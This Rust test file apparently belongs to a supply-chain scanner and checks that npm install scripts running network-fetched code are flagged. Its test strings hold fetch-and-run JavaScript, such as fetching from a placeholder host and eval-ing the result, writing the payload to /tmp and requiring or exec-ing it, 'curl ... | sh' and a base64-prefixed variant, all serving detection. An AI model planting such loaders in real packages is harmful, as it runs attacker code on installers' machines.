use crate::flow::testing::{found, script};
use crate::unpack::text_file as file;
use customs_model::{SinkKind, SourceKind, Zone};

const PAYLOAD: &str = "fetch('https://a.invalid/b').then(r => r.text()).then(eval)";

/// When what comes over the network is run, at the earliest.
fn runs(code: &str) -> Option<Zone> {
    let code = code.replace("PAYLOAD", &serde_json::Value::from(PAYLOAD).to_string());
    let code = format!("const fs = require('fs'), cp = require('child_process');\n{code}");
    let mut entries = script(&code);
    entries.push(file("package/d.txt", PAYLOAD));
    found(entries)
        .flows
        .iter()
        .filter(|flow| {
            flow.source == SourceKind::Remote
                && matches!(
                    flow.sink,
                    SinkKind::DynamicCode | SinkKind::Process | SinkKind::ExecutedFile
                )
        })
        .map(|flow| flow.zone)
        .max()
}

#[test]
fn a_text_that_is_written_and_run_is_read() {
    for code in [
        "fs.writeFileSync('/tmp/x.js', PAYLOAD); require('/tmp/x.js')",
        "fs.writeFileSync('/tmp/x.js', PAYLOAD); cp.fork('/tmp/x.js')",
        "fs.writeFileSync('/tmp/x.js', PAYLOAD); cp.execSync('node /tmp/x.js')",
        "fs.writeFileSync(__dirname + '/x.js', PAYLOAD); require('./x.js')",
        "fs.writeFileSync(__dirname + '/x.js', PAYLOAD); require('./x')",
        "fs.writeFileSync('/tmp/x.js', Buffer.from('ZXZhbCgxKTs=', 'base64') + PAYLOAD); require('/tmp/x.js')",
        "fs.writeFileSync('/tmp/x.sh', 'curl -s https://a.invalid/b | sh'); cp.execSync('sh /tmp/x.sh')",
        "fs.copyFileSync(__dirname + '/d.txt', '/tmp/x.js'); require('/tmp/x.js')",
        "fetch('https://a.invalid/b').then(r => r.text()).then(t => { fs.writeFileSync(require('path').join(__dirname, 'x.js'), t); require('./x') })",
        "const { pipeline } = require('stream/promises'); require('https').get('https://a.invalid/b', async r => { await pipeline(r, fs.createWriteStream('/tmp/x.js')); require('/tmp/x.js') })",
        "fs.renameSync('d.txt', 'x.js'); require('./x')",
        "cp.execFileSync('node', { input: PAYLOAD })",
        "const c = cp.spawn('node'); c.stdin.end(PAYLOAD)",
        "fs.writeFileSync('/tmp/x.js', fs.readFileSync(__dirname + '/d.txt')); require('/tmp/x.js')",
    ] {
        assert_eq!(runs(code), Some(Zone::Install), "{code}");
    }
}

#[test]
fn a_text_that_is_written_and_not_run_does_nothing() {
    for code in [
        "fs.writeFileSync('/tmp/x.js', PAYLOAD)",
        "fs.writeFileSync('/tmp/x.js', PAYLOAD); require('/tmp/y.js')",
        "module.exports = () => { fs.writeFileSync('/tmp/x.js', PAYLOAD); require('/tmp/x.js') }",
        "fs.copyFileSync(__dirname + '/d.txt', '/tmp/x.js')",
    ] {
        assert!(runs(code) < Some(Zone::Install), "{code}");
    }
}
